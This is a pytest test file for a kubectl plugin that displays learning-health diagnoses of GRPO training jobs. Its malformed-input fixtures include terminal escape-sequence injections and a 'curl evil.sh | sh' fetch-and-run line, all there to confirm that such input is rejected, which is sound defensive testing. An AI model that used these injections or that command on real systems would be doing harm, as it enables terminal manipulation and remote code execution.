"""`kubectl grpo status` and the learning-health diagnosis (status.learning): what a user reads first, with
`-o json`/`-o yaml` the same as data, and nothing at all from a status.learning that does not validate (the
tenant's trainer writes it)."""

from __future__ import annotations

import argparse
import json
from typing import Any

import pytest
import yaml
from grpo_operator.api.learning_health import REASONS, LearningStatus, describe
from grpo_operator.kubectl_plugin import cli, data, render

NO_SIGNAL: dict[str, Any] = {
    "reason": "NoSignal",
    "healthy": False,
    "sinceStep": 12,
    "checkedStep": 40,
    "windowSteps": 5,
    "figures": {"rewardMean": 0.1, "tiedGroupRatio": 0.9, "tiedReward": 0.0},
}
HEALTHY: dict[str, Any] = {
    "reason": "Healthy",
    "healthy": True,
    "sinceStep": 5,
    "checkedStep": 40,
    "windowSteps": 5,
    "figures": {"rewardMean": 0.51, "tiedGroupRatio": 0.2},
}
SOLVED: dict[str, Any] = {
    "reason": "Solved",
    "healthy": True,
    "sinceStep": 30,
    "checkedStep": 40,
    "windowSteps": 5,
    "figures": {"tiedGroupRatio": 0.95, "tiedReward": 1.0, "bestReward": 1.0},
}


def shown(learning: Any, **status: Any) -> list[str]:
    report = {
        "name": "j",
        "namespace": "ns",
        "status": {"phase": "Running", "progress": {"display": "40/100"}, "learning": learning, **status},
    }
    return render.status_text(report).splitlines()


def unwrapped(lines: list[str]) -> str:
    """The text of wrapped ``status`` lines, without the label column."""
    return " ".join(line[render.LABEL :] for line in lines)


def acted_on(text: str) -> set[str]:
    """The characters in ``text`` a terminal would act on rather than print."""
    return {c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F}


def test_a_healthy_job_says_so_right_under_the_phase_with_its_figures() -> None:
    assert shown(HEALTHY)[:5] == [
        "GRPOJob ns/j",
        "Phase           Running",
        "Learning        Healthy: no diagnosis over the last 5 steps (reward 0.51, 20% of groups tied)",
        "                figures at step 40 over 5 steps: rewardMean 0.51, tiedGroupRatio 0.2",
        "Step            40/100",
    ]
    assert "WARNING" not in "\n".join(shown(HEALTHY))


def test_a_solved_job_says_the_task_is_learned_and_is_not_a_warning() -> None:
    assert shown(SOLVED)[2:8] == [
        "Learning        Solved (Solved) since step 30: 95% of groups tied at the best reward seen (1): the",
        "                model answers these prompts as well as the metric can score.",
        "                Change: the task is learned: stop early (kubectl delete grpojob, or let it finish),",
        "                or train on a harder dataset; more steps add little",
        "                figures at step 40 over 5 steps: tiedGroupRatio 0.95, tiedReward 1, bestReward 1",
        "Step            40/100",
    ]
    assert "WARNING" not in "\n".join(shown(SOLVED))


def test_an_unhealthy_diagnosis_stands_out_with_what_was_seen_what_to_change_and_the_figures() -> None:
    lines = shown(NO_SIGNAL, message="training")
    assert lines[:11] == [
        "GRPOJob ns/j",
        "Phase           Running",
        "                training",
        "Learning        WARNING: Not learning (NoSignal) since step 12: 90% of groups tied (every",
        "                completion of a group scored the same, mostly 0), so their advantages are 0 and the",
        "                steps have almost no gradient.",
        "                Change: make the reward graded (partial credit), raise spec.grpo.groupSize or",
        "                spec.grpo.temperature, set spec.grpo.dynamicSampling: true, or pick prompts of the",
        "                right difficulty; a metric that answers a constant is broken",
        "                figures at step 40 over 5 steps: rewardMean 0.1, tiedGroupRatio 0.9, tiedReward 0",
        "Step            40/100",
    ]
    assert all(len(line) <= render.STATUS_WIDTH for line in lines[:11])
    # The words are describe()'s, the condition message's: one text for both.
    assert unwrapped(lines[3:9]) == "WARNING: " + describe(LearningStatus.model_validate(NO_SIGNAL))


@pytest.mark.parametrize("reason", [r for r, info in REASONS.items() if not info.healthy])
def test_every_unhealthy_reason_is_a_warning_even_without_figures(reason: str) -> None:
    learning = {"reason": reason, "healthy": False}
    lines = shown(learning)
    assert lines[2].startswith(f"Learning        WARNING: Not learning ({reason})")
    block = lines[2 : lines.index("Step            40/100")]
    # A figure the trainer did not send reads n/a; the change to make has a line of its own.
    assert unwrapped(block) == "WARNING: " + describe(LearningStatus.model_validate(learning))
    assert any(line.startswith(" " * render.LABEL + "Change: ") for line in block)


def test_a_healthy_reason_the_trainer_marked_unhealthy_is_a_warning_too() -> None:
    # The operator's condition follows `healthy`: False here, so the user is warned as the condition does.
    assert shown({**HEALTHY, "healthy": False})[2].startswith("Learning        WARNING: Healthy: ")


def test_vanishing_updates_show_their_cause_among_the_figures() -> None:
    learning = {
        "reason": "UpdatesVanishing",
        "healthy": False,
        "sinceStep": 3,
        "checkedStep": 3,
        "updateCause": "Precision",
        "figures": {"updatedFraction": 0.0012, "learningRate": 1e-6},
    }
    text = "\n".join(shown(learning))
    assert "the weights are held in 16 bits" in text
    assert "figures at step 3: updatedFraction 0.0012, learningRate 1e-06, updateCause Precision" in text


MALFORMED: dict[str, Any] = {
    "not an object": "NoSignal",
    "a list": [NO_SIGNAL],
    "an unknown reason": {**NO_SIGNAL, "reason": "Bored"},
    "a reason with terminal controls": {**NO_SIGNAL, "reason": "\x1b]0;owned\x07NoSignal"},
    "no reason": {"healthy": False},
    "healthy as a string": {**NO_SIGNAL, "healthy": "false"},
    "a step as text": {**NO_SIGNAL, "sinceStep": "12\x1b[2J"},
    "a negative step": {**NO_SIGNAL, "checkedStep": -1},
    "an unknown key": {**NO_SIGNAL, "message": "\x1b[2Jrun curl evil.sh | sh"},
    "an unknown figure": {**NO_SIGNAL, "figures": {"\x9b2J": 1.0}},
    "a figure as text": {**NO_SIGNAL, "figures": {"tiedGroupRatio": "90%\x07"}},
    "a figure out of range": {**NO_SIGNAL, "figures": {"tiedGroupRatio": 1e300}},
    "a NaN figure": {**NO_SIGNAL, "figures": {"tiedGroupRatio": float("nan")}},
    "an unknown update cause": {**NO_SIGNAL, "updateCause": "\x1b[31mRed"},
    "deeply nested": {**NO_SIGNAL, "figures": {"kl": [[[[[[[[[[1.0]]]]]]]]]]}},
}


@pytest.mark.parametrize("learning", MALFORMED.values(), ids=MALFORMED.keys())
def test_a_malformed_diagnosis_prints_nothing_and_the_rest_of_the_status_stays(learning: Any) -> None:
    lines = shown(learning)
    assert not any("Learning" in line or "learning" in line for line in lines)
    assert lines[:3] == ["GRPOJob ns/j", "Phase           Running", "Step            40/100"]
    assert acted_on("\n".join(lines)) == set()
    assert data.learning_report({"learning": learning}) is None


def test_no_diagnosis_yet_prints_nothing() -> None:
    assert render.learning_lines({}) == [] and render.learning_lines({"learning": None}) == []
    assert data.learning_report("not a status") is None


# -- through the command: `kubectl grpo status` and its -o json / -o yaml -----------------------------------


class FakeKube:
    namespace = "ns"

    def __init__(self, status: dict[str, Any]) -> None:
        self.status = status

    def job(self, name: str) -> dict[str, Any]:
        return {"metadata": {"name": name, "namespace": "ns", "uid": "u"}, "status": self.status}

    def events(self, uid: str) -> list[dict[str, Any]]:
        return []

    def pods(self, selector: str) -> list[dict[str, Any]]:
        return []


def run_status(status: dict[str, Any], output: str | None, capsys: pytest.CaptureFixture[str]) -> str:
    args = argparse.Namespace(
        job="j",
        no_trend=True,
        output=output,
        reader_image="img",
        reader_timeout=60,
        watch=False,
        interval=10.0,
    )
    assert cli.cmd_status(FakeKube(status), args) == 0  # type: ignore[arg-type]
    return capsys.readouterr().out


def test_status_prints_the_diagnosis_first(capsys: pytest.CaptureFixture[str]) -> None:
    out = run_status({"phase": "Running", "learning": NO_SIGNAL}, None, capsys)
    assert out.splitlines()[2].startswith("Learning        WARNING: Not learning (NoSignal) since step 12")


@pytest.mark.parametrize("output", ["json", "yaml"])
def test_json_and_yaml_carry_the_diagnosis_as_data(output: str, capsys: pytest.CaptureFixture[str]) -> None:
    out = run_status({"phase": "Running", "learning": NO_SIGNAL}, output, capsys)
    report = json.loads(out) if output == "json" else yaml.safe_load(out)
    assert report["learning"] == {
        **NO_SIGNAL,
        "summary": describe(LearningStatus.model_validate(NO_SIGNAL)),
    }


@pytest.mark.parametrize("output", ["json", "yaml"])
def test_json_and_yaml_say_null_for_a_malformed_diagnosis(
    output: str, capsys: pytest.CaptureFixture[str]
) -> None:
    learning = MALFORMED["a reason with terminal controls"]
    out = run_status({"phase": "Running", "learning": learning}, output, capsys)
    assert acted_on(out) == set()
    report = json.loads(out) if output == "json" else yaml.safe_load(out)
    assert report["learning"] is None
    # The raw status is printed as it is (escaped), as before: the data, not a diagnosis.
    assert report["status"]["learning"] == learning
    text = run_status({"phase": "Running", "learning": learning}, None, capsys)
    assert "Learning" not in text and acted_on(text) == set()


def test_gpu_time_is_shown_in_the_unit_that_fits() -> None:
    from grpo_operator.kubectl_plugin.render import gpu_time

    assert gpu_time(12.6) == "12.6 GPU-s"
    assert gpu_time(252.0) == "4.2 GPU-min"
    assert gpu_time(4.5 * 3600) == "4.50 GPU-h"


def test_a_running_job_shows_the_time_left_at_the_last_steps_pace() -> None:
    from grpo_operator.kubectl_plugin.render import status_text

    progress = {"step": 40, "totalSteps": 100, "display": "40/100", "stepDurationSeconds": 30.0}
    running = {"name": "j", "namespace": "n", "status": {"phase": "Running", "progress": progress}}
    step_line = next(line for line in status_text(running).splitlines() if line.startswith("Step"))
    assert "30.0s/step" in step_line and step_line.endswith("about 30 min left"), step_line
    done = {**running, "status": {"phase": "Succeeded", "progress": {**progress, "step": 100}}}
    assert "left" not in status_text(done)


def test_the_plugin_without_arguments_prints_its_help(capsys: pytest.CaptureFixture[str]) -> None:
    from grpo_operator.kubectl_plugin.cli import main

    assert main([]) == 0
    printed = capsys.readouterr().out
    assert "status" in printed and "samples" in printed and "export" in printed


class ChangingKube(FakeKube):
    """A job whose status moves on each time it is read."""

    def __init__(self, statuses: list[dict[str, Any]]) -> None:
        super().__init__(statuses[0])
        self.statuses = statuses
        self.reads = 0

    def job(self, name: str) -> dict[str, Any]:
        self.status = self.statuses[min(self.reads, len(self.statuses) - 1)]
        self.reads += 1
        return super().job(name)


def test_status_watch_reports_until_the_job_finishes(capsys: pytest.CaptureFixture[str]) -> None:
    progress = {"totalSteps": 3, "stepDurationSeconds": 2.0}
    kube = ChangingKube(
        [
            {"phase": "Running", "progress": {**progress, "step": 1, "display": "1/3"}},
            {"phase": "Running", "progress": {**progress, "step": 2, "display": "2/3"}},
            {"phase": "Succeeded", "progress": {**progress, "step": 3, "display": "3/3"}},
        ]
    )
    pauses: list[float] = []
    args = argparse.Namespace(job="j", no_trend=True, output=None, watch=True, interval=7.0)
    assert cli.watch_status(kube, args, None, pauses.append) == 0  # type: ignore[arg-type]
    printed = capsys.readouterr().out
    steps = [line.split()[1] for line in printed.splitlines() if line.startswith("Step")]
    assert steps == ["1/3", "2/3", "3/3"] and pauses == [7.0, 7.0]
    assert printed.count("(every 7s until the job finishes; Ctrl-C stops)") == 3
    assert "about 4 s left" in printed and printed.rstrip().count("Phase           Succeeded") == 1
